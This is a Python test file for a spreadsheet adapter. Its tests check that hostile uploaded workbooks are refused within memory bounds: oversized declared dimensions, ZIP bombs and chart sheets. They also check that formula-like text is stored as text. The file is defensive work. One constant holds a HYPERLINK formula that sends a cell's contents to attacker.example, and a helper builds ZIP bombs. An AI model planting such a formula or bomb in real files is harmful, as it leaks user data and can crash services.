"""Uploaded workbooks are read within bounds, whatever they claim: a 7 KB file that declares 16,384
columns by thousands of rows, a sheet of 100,000 rows, a ZIP bomb. Each is refused with the row or the
part named, using little memory (measured with tracemalloc, so a busy machine cannot change the answer);
and a text that looks like a formula is written back as text, never as a formula Excel would run."""

from __future__ import annotations

import io
import re
import tracemalloc
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from tasks.adapters import spreadsheets
from tasks.adapters.spreadsheets import SheetProblems

MEMORY_BOUND = 50 * 1024 * 1024  # the goal for a hostile workbook: ≤ 50 MB beyond what the process held


def _rewritten(content: bytes, part: str, change) -> bytes:
    """The workbook with one part's XML changed (the way a hostile file is made from a real template)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            data = source.read(entry.filename)
            target.writestr(entry.filename, change(data.decode()).encode() if entry.filename == part else data)
    return out.getvalue()


def _declaring(dimension: str, last_row: int) -> bytes:
    """The roster template claiming `dimension` and holding one more row at `last_row`."""
    def change(xml: str) -> str:
        xml = re.sub(r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{dimension}"/>', xml)
        return xml.replace("</sheetData>", f'<row r="{last_row}"><c r="A{last_row}" t="inlineStr"><is><t>x</t></is>'
                                           f"</c></row></sheetData>")
    return _rewritten(spreadsheets.roster_template(), "xl/worksheets/sheet1.xml", change)


def _refusal(content: bytes) -> tuple[SheetProblems, int]:
    """The refusal of parsing `content` as a roster, and the peak memory the parse took."""
    tracemalloc.start()
    try:
        with pytest.raises(SheetProblems) as refused:
            spreadsheets.parse_roster(content)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return refused.value, peak


@pytest.mark.parametrize(("dimension", "last_row", "problem"), [
    ("A1:XFD6000", 6000, "身份证号应为18位，实为0位"),  # row 6,000 is read (blank rows between are allowed) and judged
    ("A1:XFD1048576", 1048576, "最多 5000 行"),  # a row past 10,001 is never reached
])
def test_a_small_workbook_declaring_a_huge_sheet_is_read_in_bounded_memory(dimension, last_row, problem):
    content = _declaring(dimension, last_row)
    assert len(content) < 10_000
    refused, peak = _refusal(content)
    assert any(problem in p.problem for p in refused.problems if p.row == min(last_row, spreadsheets.READ_ROWS + 1))
    assert peak < MEMORY_BOUND


def test_a_sheet_longer_than_the_limit_is_refused_at_the_first_row_past_it_without_reading_on():
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append([c.header for c in spreadsheets.ROSTER])
    for n in range(6_000):  # bench/bench_hostile_sheets.py times 100,000
        sheet.append([f"学员{n}"])
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(SheetProblems) as refused:
        spreadsheets.parse_roster(out.getvalue())
    assert [(p.row, p.problem) for p in refused.value.problems] == [(5002, "最多 5000 行 / at most 5000 rows")]
    assert len(refused.value.sheet.rows) == 5002  # the header and one row too many: nothing past it was kept


def test_a_zip_bomb_is_refused_from_the_zips_directory_before_it_is_inflated():
    padding = " " * 60_000_000  # 60 MB of spaces deflate to about 60 KB
    bomb = _rewritten(spreadsheets.roster_template(), "xl/worksheets/sheet1.xml",
                      lambda xml: xml.replace("<sheetData>", f"<sheetData>{padding}"))
    refused, peak = _refusal(bomb)
    assert "40 MB" in refused.problems[0].problem and refused.problems[0].row == 0
    assert peak < MEMORY_BOUND


def test_a_part_inflating_a_hundredfold_is_refused_even_under_the_size_limit():
    padding = " " * 5_000_000
    bomb = _rewritten(spreadsheets.roster_template(), "xl/worksheets/sheet1.xml",
                      lambda xml: xml.replace("<sheetData>", f"<sheetData>{padding}"))
    refused, _ = _refusal(bomb)
    assert "xl/worksheets/sheet1.xml" in refused.problems[0].problem and "100" in refused.problems[0].problem


def test_columns_past_the_sixty_fourth_are_not_read():
    content = _declaring("A1:XFD3", 3)
    rows = spreadsheets.read_rows(content).rows
    assert max(len(values) for _, values in rows) == spreadsheets.READ_COLUMNS


def test_a_results_sheet_holding_only_its_header_row_is_refused_with_its_reason():
    only_header = spreadsheets.workbook("成绩表", [c.header for c in spreadsheets.RESULTS], [])
    with pytest.raises(SheetProblems) as refused:
        spreadsheets.parse_results(only_header, {})
    assert [(p.row, p.problem) for p in refused.value.problems] == [
        (2, "表格只有表头，没有数据行 / the sheet has its header row only, no data rows")]


FORMULA = '=HYPERLINK("http://attacker.example/?"&B2,"点击查看")'


def test_a_text_that_looks_like_a_formula_is_written_as_text_not_as_a_formula():
    content = spreadsheets.workbook("花名册", ["姓名", "身份证号"], [[FORMULA, "=1+1"]])
    sheet = load_workbook(io.BytesIO(content)).active
    assert [(c.value, c.data_type) for c in sheet[2]] == [(FORMULA, "s"), ("=1+1", "s")]
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()


def test_a_marked_sheet_returns_a_formula_looking_cell_as_text():
    book = Workbook()
    book.active.append([c.header for c in spreadsheets.ROSTER])
    book.active.append([FORMULA])
    book.active["A2"].data_type = "s"
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(SheetProblems) as refused:
        spreadsheets.parse_roster(out.getvalue())
    marked = load_workbook(io.BytesIO(spreadsheets.marked(refused.value.sheet, refused.value.problems))).active
    assert (marked["A2"].value, marked["A2"].data_type) == (FORMULA, "s")


def test_a_workbook_opening_on_a_chart_sheet_is_refused_with_its_reason_not_a_crash():
    """openpyxl itself fails (AttributeError) on a chart sheet without its relationships: a 422 with a reason."""
    book = Workbook()
    book.create_chartsheet("图表", 0)
    book.active = 0
    buffer = io.BytesIO()
    book.save(buffer)
    with pytest.raises(SheetProblems) as refused:
        spreadsheets.read_rows(buffer.getvalue())
    reason = refused.value.problems[0].problem
    assert "第一个工作表不是数据表" in reason or "不是可读取的 .xlsx 文件" in reason
